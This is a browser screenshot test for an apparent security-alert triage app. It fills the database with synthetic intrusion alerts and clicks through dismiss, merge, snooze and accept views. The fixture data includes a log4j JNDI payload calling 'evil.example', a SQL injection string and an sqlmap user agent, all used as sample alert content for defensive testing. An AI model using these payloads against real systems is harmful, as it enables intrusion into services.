import { it } from "vitest";
import { launchBrowser, pageOf, takeScreenshots } from "../support/browser.ts";
import { liveThrough } from "../support/incident-story.ts";
import { startHouse } from "../support/running.ts";
import { aSign, insertSigns } from "../support/signs.ts";

it("look", async () => {
  const house = await startHouse();
  const browser = await launchBrowser();
  const story = await liveThrough(house);
  const rules = [
    ["2019876", "ET SCAN Probe for x.php", "asked www3 for /x.php"],
    ["crowdsecurity/ssh-bf", "SSH brute force", "tried 41 passwords as root at db1"],
    [
      "2024897",
      "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)",
      "sent ${jndi:ldap://evil.example/a} to shop",
    ],
    ["nginx-sqli", "SQL injection probing", "asked shop for /item?id=1' OR 1=1"],
  ];
  const signs = Array.from({ length: 300 }, (_, i) => {
    const r = rules[i % 4]!;
    const ip = `203.0.113.${(i % 250) + 1}`;
    const t = Date.now() - i * 437_000;
    return aSign({
      rule: { id: r[0]!, name: r[1]! },
      title: `${ip} ${r[2]}`,
      entity: ["www3", "db1", "shop", "shop"][i % 4]!,
      count: ((i * 37) % 900) + 1,
      kind: i % 4 === 3 ? "precursor" : "indicator",
      firstAt: new Date(t - 360_000).toISOString(),
      lastAt: new Date(t).toISOString(),
      addresses: [
        { value: ip, role: "offender", port: null },
        { value: "192.0.2.33", role: "victim", port: 443 },
      ],
      fields: {
        "url.original": "http://shop.harbour.example/item?id=1%27+OR+1=1",
        "http.request.method": "GET",
        "http.response.status_code": 404,
        "user_agent.original": "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "source.ip": ip,
      },
      extra: { flow_id: 1863927561, app_proto: "http", tx: { id: 0 } },
    });
  });
  await insertSigns(house.database.pool, signs);
  for (const k of [4, 8, 12])
    await story.bo.do("sign.dismiss", {
      sign: signs[k]!.id,
      seen: 0,
      seenCount: signs[k]!.count,
      reason: "Our own scanner or test",
      note: k === 4 ? "Scheduled nightly, ticket 7731" : "",
    });
  await story.bo.do("incident.report", {
    what: "The ISP says 203.0.113.1 scans half the town",
    ongoing: "yes",
  });
  const { page, misdeeds } = await pageOf(browser, house.url, story.bo);
  const dir = process.env["LOOK"]!;
  await page.goto("/triage");
  await page.getByRole("heading", { name: /asked www3/ }).waitFor();
  await page.waitForTimeout(400);
  await takeScreenshots(page, dir, "triage");
  await page.goto(`/triage?sign=${signs[0]!.id}`);
  await page.waitForTimeout(600);
  await takeScreenshots(page, dir, "triage-sign");
  await page.goto("/triage");
  await page.waitForTimeout(500);
  await page.keyboard.press("d");
  await page.waitForTimeout(300);
  await takeScreenshots(page, dir, "triage-dismiss");
  await page.keyboard.press("Escape");
  await page.keyboard.press("m");
  await page.waitForTimeout(400);
  await page.screenshot({ path: `${dir}/triage-merge.png` });
  await page.keyboard.press("Escape");
  await page.keyboard.press("s");
  await page.waitForTimeout(300);
  await page.screenshot({ path: `${dir}/triage-snooze.png` });
  await page.keyboard.press("Escape");
  await page.keyboard.press("x");
  await page.keyboard.press("Shift+J");
  await page.keyboard.press("Shift+J");
  await page.waitForTimeout(300);
  await page.screenshot({ path: `${dir}/triage-select.png` });
  await page.keyboard.press("Escape");
  await page.keyboard.press("a");
  await page.waitForTimeout(900);
  await page.screenshot({ path: `${dir}/triage-accepted.png` });
  await page.goto("/triage?text=nosuchthing");
  await page.waitForTimeout(500);
  await page.screenshot({ path: `${dir}/triage-none.png` });
  await page.goto(`/triage?sign=${signs[1]!.id}`);
  await page.waitForTimeout(500);
  await page.emulateMedia({ media: "print" });
  await page.waitForTimeout(300);
  await page.pdf({ path: `${dir}/triage.pdf`, format: "A4" });
  await page.emulateMedia({ media: "screen" });
  console.log(JSON.stringify(misdeeds));
  await browser.close();
  await house.close();
}, 240_000);
